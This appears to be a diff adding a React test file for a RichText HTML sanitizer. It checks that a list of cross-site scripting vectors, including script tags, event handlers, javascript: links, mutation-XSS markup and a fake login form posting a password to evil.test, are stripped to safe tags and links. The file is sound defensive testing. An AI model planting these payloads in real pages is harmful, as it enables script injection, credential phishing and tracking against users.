@@ -1,0 +1,77 @@
+import { render, screen } from '@testing-library/react';
+import { renderToString } from 'react-dom/server';
+
+import { RichText } from '../../src/components/RichText';
+
+/** Markup that browsers have been made to run, or that reaches out to other sites. */
+const vectors = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" java\nscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
+  '<video src=x onerror=alert(1)></video>',
+  '<object data="https://evil.test"></object><embed src="https://evil.test">',
+  '<p style="background:url(https://evil.test/beacon)">x</p>',
+  '<p onclick="alert(1)" class="btn" id="main" data-x="1" aria-label="no">x</p>',
+  '<div><style>body{display:none}</style></div>',
+  '<link rel=stylesheet href="https://evil.test/x.css"><meta http-equiv=refresh content="0;url=//evil.test">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<b><p><a href="https://ok.test" onmouseover="alert(1)" target="_blank" title="ok">x</a></p></b>',
+];
+
+const allowedTags = new Set(
+  'P BR UL OL LI B STRONG I EM U H2 H3 H4 SPAN DIV BLOCKQUOTE A'.split(' '),
+);
+
+describe('RichText', () => {
+  it.each(vectors)('leaves only harmless elements of %s', (html) => {
+    const { container } = render(<RichText html={html} />);
+    const root = container.firstElementChild;
+    for (const element of root?.querySelectorAll('*') ?? []) {
+      expect(allowedTags).toContain(element.tagName);
+      for (const { name, value } of element.attributes) {
+        expect(['href', 'title', 'rel']).toContain(name);
+        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:)/);
+      }
+    }
+  });
+
+  it('keeps the text, the lists and the links of honest markup', () => {
+    render(
+      <RichText html='<h2>Valet</h2><p>Foam &amp; <b>rinse</b></p><ul><li>One</li><li>Two</li></ul><p><a href="https://ok.test/a">more</a></p>' />,
+    );
+    expect(screen.getByRole('heading', { level: 2, name: 'Valet' })).toBeInTheDocument();
+    expect(screen.getByText('Foam &', { exact: false })).toHaveTextContent('Foam & rinse');
+    expect(screen.getAllByRole('listitem')).toHaveLength(2);
+    const link = screen.getByRole('link', { name: 'more' });
+    expect(link).toHaveAttribute('href', 'https://ok.test/a');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  });
+
+  it('shows a link without a usable address as plain words', () => {
+    render(<RichText html='<a href="/relative">here</a>' />);
+    expect(screen.queryByRole('link')).toBeNull();
+    expect(screen.getByText('here')).toBeInTheDocument();
+  });
+
+  it('survives markup nested thousands of times', () => {
+    render(<RichText html={`${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}`} />);
+    expect(screen.getByText('deep')).toBeInTheDocument();
+  });
+
+  it('gives only words where there is no document', () => {
+    const html = renderToString(
+      <RichText html='<p>Clean <b>cars</b></p><script>alert("x")</script><img src=x onerror=alert(1)>' />,
+    );
+    expect(html).toContain('Clean cars');
+    expect(html).not.toMatch(/script|img|alert|<p>|<b>/);
+  });
+});
